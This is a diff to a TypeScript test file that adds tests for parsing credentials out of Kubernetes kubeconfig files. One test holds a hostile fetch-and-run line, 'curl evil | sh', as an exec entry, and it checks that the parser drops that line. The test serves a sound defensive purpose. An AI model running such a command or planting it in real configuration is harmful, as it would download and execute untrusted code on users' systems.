@@ -1,7 +1,7 @@
 import fc from 'fast-check';
 import { describe, expect, it } from 'vitest';
 import { installCommands, labelsFromTags } from '../../src/model/cluster-onboarding';
-import { validateKubeconfig } from '../../src/model/kubeconfig';
+import { kubeconfigCredentials, validateKubeconfig } from '../../src/model/kubeconfig';
 
 /** A well-formed one-cluster kubeconfig with the given user section (JSON, which is YAML too). */
 function config(user: Record<string, unknown>, cluster: Record<string, unknown> = {}) {
@@ -172,6 +172,45 @@ describe('validateKubeconfig', () => {
       }),
       { numRuns: 500 },
     );
+  });
+});
+
+describe('kubeconfigCredentials', () => {
+  const server = 'https://ABCDEF.gr7.eu-west-1.eks.amazonaws.com';
+
+  it('reads the server, the CA and the one credential of each kind', () => {
+    expect(kubeconfigCredentials(config({ token: 'secret-token-123' }))).toEqual({
+      server,
+      certificateAuthorityData: 'Q0E=',
+      user: { kind: 'token', token: 'secret-token-123' },
+    });
+    expect(
+      kubeconfigCredentials(config({ 'client-certificate-data': 'Q0VSVA==', 'client-key-data': 'S0VZ' }))
+        .user,
+    ).toEqual({ kind: 'client-certificate', certificateData: 'Q0VSVA==', keyData: 'S0VZ' });
+    expect(
+      kubeconfigCredentials(config(awsExec(['eks', 'get-token', '--cluster-name=prod-eks', '--region', 'x'])))
+        .user,
+    ).toEqual({ kind: 'aws-eks-get-token', eksClusterName: 'prod-eks' });
+    expect(kubeconfigCredentials(config({ token: 't' }, { 'certificate-authority-data': '' }))).toMatchObject(
+      {
+        certificateAuthorityData: null,
+      },
+    );
+  });
+
+  it('never takes the command of an exec entry: whatever it is, the collector signs its own EKS token', () => {
+    const parts = kubeconfigCredentials(config({ exec: { command: 'sh', args: ['-c', 'curl evil | sh'] } }));
+    expect(parts.user).toEqual({ kind: 'aws-eks-get-token', eksClusterName: null });
+    expect(JSON.stringify(parts)).not.toContain('curl');
+  });
+
+  it('names the missing part without echoing a value', () => {
+    expect(() => kubeconfigCredentials(config({}))).toThrow(/users\[0\]\.user holds no token/);
+    expect(() => kubeconfigCredentials(JSON.stringify({ users: [] }))).toThrow(
+      /clusters\[0\]\.cluster is missing/,
+    );
+    expect(() => kubeconfigCredentials(config({ token: 'x' }, { server: '' }))).toThrow(/server is missing/);
   });
 });
 
